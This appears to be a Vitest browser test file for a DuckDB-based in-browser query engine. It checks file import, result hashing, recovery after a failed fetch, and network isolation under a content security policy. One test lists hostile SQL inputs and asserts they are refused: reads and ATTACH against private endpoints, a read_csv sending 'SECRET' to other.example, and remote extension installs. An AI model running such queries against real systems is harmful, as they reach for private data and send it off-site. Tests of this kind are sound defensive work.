/** The engine as it is shipped: built, under the content security policy of the app, with Trusted Types. */
import { utils, write } from '@e965/xlsx';
import { tableFromArrays, tableToIPC } from '@uwdata/flechette';
import { Table, WriterPropertiesBuilder, writeParquet } from 'parquet-wasm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openModulePage, type ModulePage } from '../../../tests/support/module-page.ts';

function workbook(): Uint8Array {
	const book = utils.book_new();
	utils.book_append_sheet(
		book,
		utils.aoa_to_sheet([
			['id', 'name'],
			[1, 'Ana'],
			[2, 'Bo']
		])
	);
	return new Uint8Array(write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer);
}

function parquet(): Uint8Array {
	const bytes = tableToIPC(tableFromArrays({ id: [1, 2], name: ['Ana', 'Bo'] }), { format: 'stream' });
	if (bytes === null) throw new Error('No bytes');
	return writeParquet(Table.fromIPCStream(bytes), new WriterPropertiesBuilder().build());
}

let tab: ModulePage;
beforeAll(async () => {
	tab = await openModulePage(['engine', 'ingest']);
}, 120_000);
afterAll(() => tab?.close());

describe('the built engine under the policy of the app', () => {
	it('starts, imports in a worker of its own, answers, and hashes in another', async () => {
		const seen = await tab.page.evaluate(async () => {
			const { Engine, resultHash } = window.roundtable.engine;
			const { importFile, propose } = window.roundtable.ingest;
			const duck = new Engine();
			const text = Array.from({ length: 30_000 }, (_, i) => `${i},Stra\xdfe ${i}`).join('\n');
			const blob = new Blob([Uint8Array.from(`id,name\n${text}\n`, (character) => character.charCodeAt(0))]);
			const proposal = await propose(blob);
			if (!proposal.ok) return proposal.reason;
			const table = await importFile(duck, 'streets', blob, proposal.reading);
			const outcome = await duck.run('SELECT * FROM streets ORDER BY id');
			if (!outcome.ok) return outcome.message;
			const hash = await resultHash(outcome.result, { ordered: true });
			return {
				table: table.ok,
				last: outcome.result.row(29_999).map(({ text: shown }) => shown),
				hash: hash?.length
			};
		});
		expect(seen).toEqual({ table: true, last: ['29999', 'Straße 29999'], hash: 64 });
		expect(tab.refused).toEqual([]);
	});

	it('reads workbooks, JSON and Parquet in their workers', async () => {
		const files = Object.fromEntries(
			(
				[
					['parquet', parquet()],
					['json', new TextEncoder().encode('[{"id": 1, "name": "Ana"}, {"id": 2, "name": "Bo"}]')],
					['sheet', workbook()]
				] satisfies [string, Uint8Array][]
			).map(([name, bytes]) => [name, Buffer.from(bytes).toString('base64')] as const)
		);
		const seen = await tab.page.evaluate(async (sent) => {
			const { importFile, propose } = window.roundtable.ingest;
			const duck = new window.roundtable.engine.Engine();
			const outcomes: Record<string, unknown> = {};
			for (const [name, text] of Object.entries(sent)) {
				const blob = new Blob([Uint8Array.from(atob(text), (character) => character.charCodeAt(0))]);
				const proposal = await propose(blob);
				if (!proposal.ok) outcomes[name] = proposal;
				else {
					const table = await importFile(duck, name, blob, proposal.reading);
					outcomes[name] = table.ok ? [proposal.format, table.rowCount] : table;
				}
			}
			return outcomes;
		}, files);
		expect(seen).toEqual({ parquet: ['parquet', 2], json: ['json', 2], sheet: ['sheet', 2] });
		expect(tab.refused).toEqual([]);
	});

	it('sends nothing for SQL that reaches for an address, here or elsewhere', async () => {
		const kinds = await tab.page.evaluate(async () => {
			const duck = new window.roundtable.engine.Engine();
			const here = location.origin;
			const kinds: string[] = [];
			for (const sql of [
				`SELECT * FROM read_csv('${here}/api/private.csv')`,
				`SELECT * FROM read_text('${here}/api/private.csv')`,
				`SELECT * FROM '${here}/api/private.parquet'`,
				`COPY (SELECT 1) TO '${here}/api/private.csv'`,
				`ATTACH '${here}/api/private.db'`,
				"SELECT * FROM read_csv('https://other.example/private?d=SECRET')",
				'LOAD httpfs',
				"INSTALL json FROM 'https://other.example/private'; LOAD json"
			]) {
				const outcome = await duck.run(sql);
				kinds.push(outcome.ok ? 'ok' : outcome.kind);
			}
			return kinds;
		});
		// A name that ends in .parquet is taken for one of a table.
		expect(kinds).toEqual(['refused', 'refused', 'sql', ...Array<string>(5).fill('refused')]);
		expect(tab.requested.filter((url) => /private|extension|other/.test(url))).toEqual([]);
	});

	it('that cannot be fetched says so, and starts once it can', async () => {
		await tab.page.route('**/duckdb-eh*.wasm', (route) => route.abort());
		const start = () =>
			tab.page.evaluate(async () => {
				const duck = new window.roundtable.engine.Engine();
				const outcome = await duck.run('SELECT 1');
				return { kind: outcome.ok ? 'ok' : outcome.kind, state: duck.state };
			});
		expect(await start()).toEqual({ kind: 'start', state: 'off' });
		await tab.page.unroute('**/duckdb-eh*.wasm');
		expect(await start()).toEqual({ kind: 'ok', state: 'ready' });
	});

	it('comes in files whose names the server knows, and asks for nothing else', async () => {
		const names = [...new Set(tab.requested.map((url) => new URL(url).pathname.split('/').at(-1) ?? ''))];
		expect(names.filter((name) => name.includes('duckdb-browser-eh.worker'))).toHaveLength(1);
		expect(names.filter((name) => /^duckdb-eh.*\.wasm$/.test(name))).toHaveLength(1);
		expect(names.some((name) => /mvp|coi|pthread/.test(name))).toBe(false);
		expect(tab.requested.filter((url) => !url.startsWith(tab.origin) && !url.startsWith('blob:'))).toEqual(
			[]
		);
	});
});
